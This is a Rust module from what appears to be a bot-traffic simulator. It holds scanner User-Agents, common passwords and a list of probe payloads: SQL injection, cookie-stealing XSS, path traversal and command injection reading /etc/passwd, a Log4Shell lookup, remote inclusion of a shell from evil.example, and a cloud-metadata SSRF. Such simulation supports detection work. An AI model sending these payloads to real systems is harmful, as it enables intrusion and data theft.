//! The bots' material: User-Agents of tools and scanners, probe paths and
//! injection payloads, credential and name lists. Probe payloads are written
//! as scanners put them on the wire, some raw and some percent-encoded.

use crate::sim::browsers::Tool;
use crate::sim::clients::{BotKind, Variant};
use rand::seq::IndexedRandom;
use rand::Rng;

pub const FORM: &str = "application/x-www-form-urlencoded";
pub const JSON: &str = "application/json";

/// Products every scalper wants.
pub const HOT_PRODUCTS: [u32; 3] = [7, 42, 314];

pub const SCANNER_UAS: [&str; 7] = [
    "sqlmap/1.9.10#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.5359.71 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.28 (https://wpscan.com/wordpress-security-scanner)",
    "gobuster/3.8",
    "Fuzz Faster U Fool v2.1.0-dev",
    "Mozilla/5.0 zgrab/0.x",
];

/// Known probe paths and payloads, as scanners send them (some raw, some encoded).
pub const PROBES: [&str; 44] = [
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/wp-login.php",
    "/wp-admin/",
    "/xmlrpc.php",
    "/admin",
    "/admin/login",
    "/phpmyadmin/",
    "/server-status",
    "/.aws/credentials",
    "/config.php.bak",
    "/backup.zip",
    "/.DS_Store",
    "/actuator/env",
    "/actuator/heapdump",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/solr/admin/info/system",
    "/.svn/entries",
    "/debug/pprof/",
    "/console",
    "/_profiler",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/owa/auth/logon.aspx",
    "/graphql",
    "/api/swagger.json",
    "/cgi-bin/../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/products?id=1'%20OR%20'1'='1",
    "/products/1'%20OR%20'1'='1",
    "/api/products/1%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "/search?q=1'%20AND%20SLEEP(5)--%20-",
    "/search?q=%7B%7B7*7%7D%7D",
    "/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fprobe.example%2Fa%7D",
    "/products?page=1;cat%20/etc/passwd",
    "/products?page=$(id)",
    "/index.php?page=http://evil.example/shell.txt",
    "/?url=http://169.254.169.254/latest/meta-data/",
    "/users/1%20OR%201=1",
    "/api/users/..%2f..%2fadmin",
    "/search?q=%252e%252e%252fetc%252fpasswd",
];

pub const WORDS: [&str; 16] = [
    "admin",
    "backup",
    "test",
    "old",
    "config",
    "db",
    "dump",
    "site",
    "data",
    "private",
    "upload",
    "tmp",
    "dev",
    "shell",
    "panel",
    "dashboard",
];
pub const EXTENSIONS: [&str; 7] = ["", ".php", ".bak", ".zip", ".sql", ".old", "/"];

pub const PASSWORDS: [&str; 12] = [
    "123456",
    "password1",
    "qwerty123",
    "Summer2026!",
    "iloveyou",
    "letmein",
    "Welcome1",
    "dragon",
    "monkey123",
    "football",
    "P@ssw0rd",
    "abc12345",
];
pub const NAMES: [&str; 12] = [
    "anna", "ben", "chris", "dana", "eric", "fatima", "george", "hana", "ivan", "julia", "kevin",
    "laura",
];
pub const DOMAINS: [&str; 5] = [
    "gmail.com",
    "yahoo.com",
    "outlook.com",
    "mailinator.com",
    "yopmail.com",
];
pub fn random_name<R: Rng>(rng: &mut R) -> String {
    let first = NAMES.choose(rng).copied().unwrap_or("anna");
    match rng.random_range(0..3) {
        0 => format!("{first}{}", rng.random_range(1..9999)),
        1 => format!(
            "{first}.{}{}",
            NAMES.choose(rng).copied().unwrap_or("ben"),
            rng.random_range(1..99)
        ),
        _ => (0..10)
            .map(|_| char::from(rng.random_range(b'a'..=b'z')))
            .collect(),
    }
}

pub fn tools_for(kind: BotKind, variant: Variant) -> &'static [Tool] {
    const STUFF: [Tool; 3] = [Tool::REQUESTS, Tool::GO, Tool::named("python-httpx/0.28.1")];
    const SIGNUP: [Tool; 3] = [
        Tool::REQUESTS,
        Tool::named("Python-urllib/3.12"),
        Tool::CURL,
    ];
    const SPAM: [Tool; 3] = [
        Tool::REQUESTS,
        Tool::named("Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"),
        Tool::CURL,
    ];
    const SCRAPE: [Tool; 4] = [
        Tool::named("Scrapy/2.13.3 (+https://scrapy.org)"),
        Tool::REQUESTS,
        Tool::named("Wget/1.25.0"),
        Tool::named("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/156.0.0.0 Safari/537.36"),
    ];
    const SPIKE: [Tool; 3] = [
        Tool::named("k6/1.3.0 (https://k6.io/)"),
        Tool::named("ApacheBench/2.3"),
        Tool::GO,
    ];
    const API: [Tool; 4] = [Tool::OKHTTP, Tool::AXIOS, Tool::GO, Tool::POSTMAN];
    const PLAIN: [Tool; 3] = [Tool::REQUESTS, Tool::GO, Tool::CURL];
    const SCAN: [Tool; 7] = [
        Tool::named(SCANNER_UAS[0]),
        Tool::named(SCANNER_UAS[1]),
        Tool::named(SCANNER_UAS[2]),
        Tool::named(SCANNER_UAS[3]),
        Tool::named(SCANNER_UAS[4]),
        Tool::named(SCANNER_UAS[5]),
        Tool::named(SCANNER_UAS[6]),
    ];
    match (kind, variant) {
        (BotKind::VulnerabilityScanning, _) => &SCAN,
        (_, Variant::Paced) => &API,
        (BotKind::CredentialStuffing, _) => &STUFF,
        (BotKind::FakeAccounts, _) => &SIGNUP,
        (BotKind::Spam, _) => &SPAM,
        (BotKind::Scraping, _) => &SCRAPE,
        (BotKind::TrafficSpike, _) => &SPIKE,
        _ => &PLAIN,
    }
}
